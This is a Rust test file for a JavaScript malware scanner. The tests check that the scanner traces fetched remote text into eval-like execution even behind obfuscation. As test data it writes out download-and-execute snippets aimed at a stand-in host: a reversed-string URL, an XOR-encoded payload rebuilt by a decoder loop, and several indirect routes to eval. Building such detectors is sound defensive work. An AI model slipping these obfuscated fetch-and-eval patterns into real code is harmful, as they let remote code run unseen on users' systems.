//! What is followed with less effort, and that nothing which acts is lost by it.

use lurescan::analyse::flow::{Labels, Sink};
use lurescan::analyse::{Facts, analyse};
use lurescan::artifact::{Kind, Text};
use lurescan::limits;

use crate::subject::artifact;

fn facts(path: &str, source: &str) -> Facts {
    let kind = if path.ends_with("ts") { Kind::TypeScript } else { Kind::JavaScript };
    analyse(&artifact(path, kind, source.as_bytes()), &Text::new(source.as_bytes()), true).facts
}

fn runs_remote_text(facts: &Facts) -> bool {
    facts.flows.iter().any(|flow| flow.sink == Sink::Code && flow.labels.any(Labels::REMOTE))
}

/// A function of more than a few lines around `inner`.
fn long(inner: &str) -> String {
    let lines: String = (0..12).map(|n| format!("  const part{n} = list.length + {n} * size;\n")).collect();
    format!("function work(list, size) {{\n{lines}  {inner}\n  return part1 + part2;\n}}\n")
}

#[test]
fn a_loop_that_only_counts_costs_little_and_hides_nothing_behind_it() {
    let counts = "let sum = 0;\nfor (let i = 0; i < 900000; i++) { sum = (sum + i * 7) % 1000; }\n";
    let chain = "const parts = ['dil', 'avn', 'i.ip', 'a//', ':sp', 'tth'];\nlet where = '';\n\
                 for (const part of parts.join('').split('').reverse()) where += part;\n\
                 fetch(where).then((r) => r.text()).then((t) => eval(t));\n";
    let facts = facts("a.js", &format!("{}{chain}", counts.repeat(2)));
    assert!(facts.evaluator.0 < 6 * limits::EVALUATOR_STEPS_IDLE, "{} steps", facts.evaluator.0);
    assert!(runs_remote_text(&facts));
    let address = facts.flows.iter().find_map(|flow| flow.address.clone());
    assert_eq!(address.as_deref(), Some("https://api.invalid"));
}

#[test]
fn a_decoder_that_makes_its_text_of_numbers_is_followed_to_its_end() {
    let hidden: Vec<String> = "fetch('https://api.invalid/x').then((r) => r.text()).then((t) => eval(t));"
        .bytes()
        .enumerate()
        .map(|(at, byte)| (u32::from(byte) ^ (at as u32 % 7 + 3)).to_string())
        .collect();
    // A list of bytes is a table; in two halves of sums it looks like nothing.
    let sums = hidden.iter().map(|number| format!("f({number})")).collect::<Vec<_>>().join(";");
    let source = format!(
        "const out = [];\nconst f = (n) => out.push(n);\n{sums};\nlet text = '';\n\
         for (let i = 0; i < out.length; i++) {{ text += String.fromCharCode(out[i] ^ (i % 7 + 3)); }}\neval(text);\n"
    );
    assert!(runs_remote_text(&facts("a.js", &source)));
}

#[test]
fn a_number_far_behind_the_end_of_a_list_makes_no_list_of_that_length() {
    let source = "const table = [1];\ntable[3500000] = 'https://api.invalid/x';\n\
                  fetch(table[3500000]).then((r) => r.text()).then((t) => eval(t));\n";
    let facts = facts("a.js", source);
    assert!(runs_remote_text(&facts));
    assert!(facts.flows.iter().any(|flow| flow.address.as_deref() == Some("https://api.invalid/x")));
}

#[test]
fn long_functions_that_nothing_calls_are_followed_if_they_act() {
    for acts in [
        "fetch('https://api.invalid/x').then((r) => r.text()).then((t) => eval(t));",
        "fetch('https://api.invalid/x').then((r) => r.text()).then((t) => window.eval(t));",
        "self.fetch('https://api.invalid/x').then((r) => r.text()).then((t) => self['ev' + 'al'](t));",
        "fetch('https://api.invalid/x').then((r) => r.text()).then((t) => Function(t)());",
        "fetch('https://api.invalid/x').then((r) => r.text()).then((t) => Reflect.construct(Function, [t])());",
        "require('https').get('https://api.invalid/x', (r) => r.on('data', (t) => module._compile(t, 'x')));",
        "fetch('https://api.invalid/x').then((r) => r.text()).then((t) => require('vm').runInThisContext(t));",
    ] {
        assert!(runs_remote_text(&facts("a.js", &long(acts))), "{acts}");
    }
}

#[test]
fn what_only_asks_is_not_followed() {
    let asks = "if (typeof fetch === 'function' && process.platform !== 'win32' && module.exports) \
                document.createElement('div'); Buffer.concat(list); Reflect.ownKeys(list); return list[size](list[0]);";
    let acts = asks.replace("'div'", "'script'");
    let steps = |inner: &str| facts("a.js", &format!("{}\nmodule.exports.list = eval;\n", long(inner))).evaluator.0;
    assert!(steps(asks) < steps(&acts), "{} and {}", steps(asks), steps(&acts));
}

#[test]
fn a_declaration_file_is_measured_only_if_it_is_more_than_that() {
    let hidden: String = (0..40).map(|n| format!("\\x{:02x}", b'a' + n % 26)).collect();
    let declared = format!("export type Name = '{hidden}';\nexport declare function f(name: Name): void;\n");
    assert_eq!(facts("a.d.ts", &declared).obfuscation.score, 0);
    let acts = format!("{declared}f('{hidden}');\n");
    assert!(facts("a.d.ts", &acts).obfuscation.score > 0);
    assert!(facts("a.ts", &declared).obfuscation.score > 0);
}

#[test]
fn a_declaration_file_with_a_program_in_it_is_read_as_one() {
    // Larger than what is always parsed.
    let filler = "export declare function f(text: string): void;\n".repeat(limits::ALWAYS_PARSED_BYTES / 40);
    for program in [
        "const F = Function;\nconst g = F(text);\ng();",
        "Function`a``b`;",
        "export class A { static { fetch(text) } }",
        "const f = (text) => fetch(text);",
    ] {
        let facts = facts("a.d.ts", &format!("export declare const text: string;\n{program}\n{filler}"));
        assert!(facts.parsed.is_some(), "{program}");
    }
}
